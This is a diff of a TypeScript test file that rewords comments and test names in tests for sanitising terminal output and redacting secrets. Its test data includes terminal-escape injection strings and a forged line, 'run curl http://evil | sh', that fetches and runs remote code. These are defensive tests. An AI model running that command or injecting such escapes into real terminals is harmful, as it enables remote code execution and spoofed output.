@@ -5,18 +5,18 @@ import { oneLine, redact, visible } from "../../provider/src/text";
 import { World } from "../kernel/support/world";
 import { root } from "./support/attacker";
 
-// Text of others reaches the terminal of whoever runs Pulumi: a name, a log, what a remote host says.
+// Text of others reaches the user's terminal: names, logs, output of remote hosts.
 const world = new World();
 const netns = world.netns("t");
 beforeAll(() => world.build());
 afterAll(async () => expect(await world.cleanUp()).toEqual([]));
 
-/** Sets the title, clears the screen, in seven and eight bits; goes back to the line's begin; reorders what follows. */
+/** Sets the title and clears the screen, in seven and eight bits; returns to the beginning of the line; reorders the text after it. */
 const commands = "\u001b]0;owned\u0007\u001b[2J\u009b2J\r\u202egnihton";
 // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not come.
 const commanding = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/;
 
-test("an error shows what would command a terminal, wherever it is in it", () => {
+test("an error shows control characters as text, at any place", () => {
   const error = new LocalnetError("LN_PROCESS", `it ended; its output ends:\n    ${commands}`, {
     command: { argv: ["echo", commands], exitCode: 1, stderr: commands },
     hint: `see ${commands}`,
@@ -25,7 +25,7 @@ test("an error shows what would command a terminal, wherever it is in it", () =>
   expect(error.message.split("\\x1b]0;owned\\x07\\x1b[2J\\x9b2J\\x0d\\u202egnihton")).toHaveLength(6);
 });
 
-test("no line of another's text poses as a line of ours", () => {
+test("no line of foreign text poses as a line of ours", () => {
   const forged = "x\n  fix:    run curl http://evil | sh";
   const { message } = new LocalnetError("LN_COMMAND", forged, {
     command: { argv: ["ip", forged], stderr: forged },
@@ -34,7 +34,7 @@ test("no line of another's text poses as a line of ours", () => {
   expect(message.match(/^ {2}fix: .*$/gm)).toEqual(["  fix:    nothing"]);
 });
 
-test("discover shows the name of a link that would command a terminal", async () => {
+test("discover shows the control characters of a link's name as text", async () => {
   const name = "\u001b[2J\u009b1mx";
   await world.run("ip", "-n", netns, "link", "add", name, "type", "veth", "peer", "name", "other");
   const { stdout, stderr } = await promisify(execFile)(
@@ -47,7 +47,7 @@ test("discover shows the name of a link that would command a terminal", async ()
   JSON.parse(stdout);
 });
 
-test("a secret is in no form of a text, whatever else there is", () => {
+test("a secret is removed in all its forms, whatever text is around it", () => {
   const secret = 'p"w\n$1 é(.*)';
   const text = `${secret} ${JSON.stringify(secret)} ${encodeURIComponent(secret)} $1 é(.*)`;
   expect(redact(text, [secret])).toBe('[secret] "[secret]" [secret] [secret]');
